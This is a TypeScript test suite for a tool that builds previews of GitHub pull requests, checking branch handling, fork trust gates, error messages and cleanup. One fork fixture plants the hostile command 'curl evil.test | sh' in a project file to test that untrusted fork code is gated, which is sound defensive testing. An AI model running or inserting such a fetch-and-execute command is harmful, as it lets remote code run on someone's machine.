import assert from 'node:assert/strict';
import type { CreatePreviewInput } from '../../../../agent/protocol/input.ts';
import { explain } from '../../../../agent/protocol/explain.ts';
import { failureOf } from '../../../../agent/protocol/failures.ts';
import { previewRecords } from '../../../../agent/project/previewRecords.ts';
import { GitHubServer } from '../../../standins/github/gitHubServer.ts';
import { gitHubRemote, type GitHubRemote } from '../../../standins/gitHubRemote.ts';
import { removeTemporaryFolders, type Repository } from '../../../standins/repository.ts';
import { projectFile, sampleWithBranches } from '../../../standins/sampleProject.ts';
import { signedInAs } from '../../../standins/signedInAs.ts';
import { gatesOf, stepIds, text, texts, TestWorld, verdictsOf } from '../../../standins/world.ts';

const stranger = { name: 'Another Author', email: 'another@example.test' };
const asked = (pullRequest: number): CreatePreviewInput => ({ kind: 'createPreview', pullRequest });

describe('previews of pull requests', function () {
  this.timeout(20_000); // git is real, and machines are busy
  let server: GitHubServer;
  let repo: Repository;
  let remote: GitHubRemote;
  let test: TestWorld;

  beforeEach(async () => {
    server = await GitHubServer.start();
    server.tokens.set('good', 'octocat');
    repo = sampleWithBranches({ pricing: 'New prices' });
    remote = gitHubRemote(repo);
    test = await worldOf({ token: 'good', account: 'octocat' });
  });
  afterEach(async () => {
    await server.end();
    assert.deepEqual(server.drift, []);
  });
  after(removeTemporaryFolders);

  function worldOf(session: Parameters<typeof signedInAs>[0]): Promise<TestWorld> {
    return TestWorld.of(repo, signedInAs(session, server.url));
  }

  async function refused(input: CreatePreviewInput): Promise<string> {
    const error = await test.draft(input).then(
      () => assert.fail('it was planned'),
      (thrown: unknown) => thrown,
    );
    return text(explain(failureOf(error)).what);
  }

  it('is the preview of its branch, where that is of this repository', async () => {
    server.hub.openPull({ branch: 'pricing', sha: repo.git('rev-parse', 'pricing') });
    const draft = await test.carryOut(asked(1));
    assert.deepEqual(draft.facts.input, { kind: 'createPreview', branch: 'pricing', pullRequest: 1 });
    assert.equal(stepIds(draft)[0], 'record:preview-pricing');
    assert.equal((await previewRecords(test.world.own).get('preview-pricing'))?.pullRequest, 1);
    const again = await test.draft(draft.facts.input);
    assert.deepEqual(again.facts.input, draft.facts.input);
  });

  it('shows what was pushed after the last fetch, and moves nothing of the user’s', async () => {
    const sha = remote.push('pricing', 'Better prices', { 'web/index.mjs': '3' });
    remote.pull(7, sha);
    server.hub.openPull({ number: 7, branch: 'pricing', sha });
    const before = repo.git('for-each-ref', 'refs/heads', 'refs/remotes', 'refs/tags');
    const { remarks, facts } = await test.draft(asked(7));
    assert.equal(text(remarks.title), `Preview of #7 at ${sha.slice(0, 7)}`);
    assert.equal(facts.targets[0]?.then?.commit, sha);
    assert.equal(repo.git('for-each-ref', 'refs/heads', 'refs/remotes', 'refs/tags'), before);
    assert.equal(repo.git('rev-parse', 'refs/taxiway/pull/7'), sha);
  });

  it('shows commits that follow on its head and are here alone, and says so', async () => {
    server.hub.openPull({ branch: 'pricing', sha: repo.git('rev-parse', 'pricing') });
    const sha = repo.checkout('pricing').commit('Not pushed', { 'web/index.mjs': '4' });
    const { facts, remarks } = await test.draft(asked(1));
    assert.equal(facts.targets[0]?.then?.commit, sha);
    assert.match(texts(remarks.warnings).join(), /pricing has commits here that are not in the pull request/);
  });

  describe('from a fork', () => {
    let sha: string;

    beforeEach(() => {
      const file = projectFile().replaceAll('make', 'curl evil.test | sh');
      const files = { 'web/index.mjs': '5', 'taxiway.json': file };
      sha = remote.push(null, 'Look at this', files, stranger);
      remote.pull(3, sha);
      server.hub.openPull({ number: 3, branch: 'main', sha, fork: 'them/shop', author: 'kim' });
    });

    it('has a name of its own and asks, once per head, with author and the commands of the base branch', async () => {
      const draft = await test.draft(asked(3));
      assert.deepEqual(draft.facts.input, asked(3));
      assert.match(
        gatesOf(draft)['foreignCode']!,
        /^fails \w{7} is from elsewhere, by Another Author <another@example.test>. It would run on this machine: make, node/,
      );
      assert.doesNotMatch(gatesOf(draft)['foreignCode']!, /curl/);
      assert.match(texts(draft.remarks.warnings).join(), /#3 comes from a fork: them:main, by kim/);
      const trusted = { ...asked(3), trustedHead: sha as never };
      assert.equal(verdictsOf(await test.draft(trusted))['foreignCode'], 'passes');
      await test.carryOut(trusted);
      const record = await previewRecords(test.world.own).get('preview-pr-3');
      assert.deepEqual([record?.branch, record?.pullRequest, record?.head], ['them:main', 3, sha]);
    });

    it('is asked about again when its head moves', async () => {
      const next = remote.push(null, 'And this', { 'web/index.mjs': '6' }, stranger);
      remote.pull(3, next);
      server.hub.pulls[0]!.sha = next;
      const stale = await test.draft({ ...asked(3), trustedHead: sha as never });
      assert.equal(verdictsOf(stale)['foreignCode'], 'fails');
    });

    it('is somebody else’s even where its commits say they are yours', async () => {
      const mine = repo.checkout('pricing').commit('Mine', { 'web/index.mjs': '7' });
      server.hub.pulls[0]!.sha = mine;
      assert.match(gatesOf(await test.draft(asked(3)))['foreignCode']!, /^fails \w{7} is from elsewhere/);
    });

    it('leaves nothing behind when it is removed', async () => {
      await test.carryOut({ ...asked(3), trustedHead: sha as never });
      await test.carryOut({ kind: 'removePreview', environment: 'preview-pr-3' }, { operation: 'op-2' });
      assert.equal(repo.git('for-each-ref', 'refs/taxiway'), '');
    });
  });

  it('takes the head of a deleted branch from the pull request, as somebody else’s', async () => {
    const sha = remote.push(null, 'Gone', { 'web/index.mjs': '8' }, stranger);
    remote.pull(4, sha);
    server.hub.openPull({ number: 4, branch: 'gone', sha, branchGone: true });
    const draft = await test.draft(asked(4));
    assert.deepEqual(draft.facts.input, asked(4));
    assert.match(texts(draft.remarks.warnings).join(), /The branch of #4 is gone/);
    assert.equal(verdictsOf(draft)['foreignCode'], 'fails');
  });

  it('is what taxiway.json may want: a branch without one is previewed by hand, and told so', async () => {
    const previews = { from: 'pull-requests', targets: { web: { platform: 'local' } } };
    repo = sampleWithBranches({ pricing: 'New prices' }, { previews });
    gitHubRemote(repo);
    test = await worldOf({ token: 'good', account: 'octocat' });
    const said = async (): Promise<string> =>
      texts((await test.draft({ kind: 'createPreview', branch: 'pricing' })).remarks.warnings).join();
    assert.match(await said(), /Previews are of pull requests here, and pricing has none/);
    server.hub.openPull({ branch: 'pricing', sha: repo.git('rev-parse', 'pricing') });
    assert.doesNotMatch(await said(), /has none/);
  });

  it('finds a repository that moved', async () => {
    server.hub.formerNames.push('store');
    repo.git('remote', 'set-url', 'origin', 'git@github.com:acme/store.git');
    server.hub.openPull({ branch: 'pricing', sha: repo.git('rev-parse', 'pricing') });
    assert.equal(text((await test.draft(asked(1))).remarks.verb), 'Create the preview of #1');
  });

  it('goes on by the branch where GitHub does not answer and the branch is known', async () => {
    server.troubles.push({ matches: () => true, status: 503, times: 9 });
    const draft = await test.draft({ kind: 'createPreview', branch: 'pricing', pullRequest: 1 });
    assert.equal(text(draft.remarks.verb), 'Create the preview of #1');
  });

  it('says why not', async () => {
    const sha = repo.git('rev-parse', 'pricing');
    server.hub.openPull({ branch: 'pricing', sha, open: false });
    assert.match(await refused(asked(1)), /The pull request #1 is closed/);
    assert.match(await refused(asked(99)), /acme\/shop has no pull request #99/);
    server.hub.openPull({ number: 5, branch: 'them', sha: 'b'.repeat(40), fork: 'them/shop' });
    assert.match(await refused(asked(5)), /git fetch|couldn't find remote ref/);
    repo.git('remote', 'set-url', 'origin', 'git@gitlab.com:acme/shop.git');
    assert.match(await refused(asked(1)), /No remote of this repository is on GitHub/);
    repo.git('remote', 'remove', 'origin');
    assert.match(await refused(asked(1)), /No remote of this repository is on GitHub/);
    assert.match(await refused({ kind: 'createPreview' }), /Say which branch/);
  });

  it('asks to sign in where nobody is', async () => {
    test = await worldOf(null);
    assert.match(await refused(asked(1)), /You are not signed in to GitHub/);
  });
});
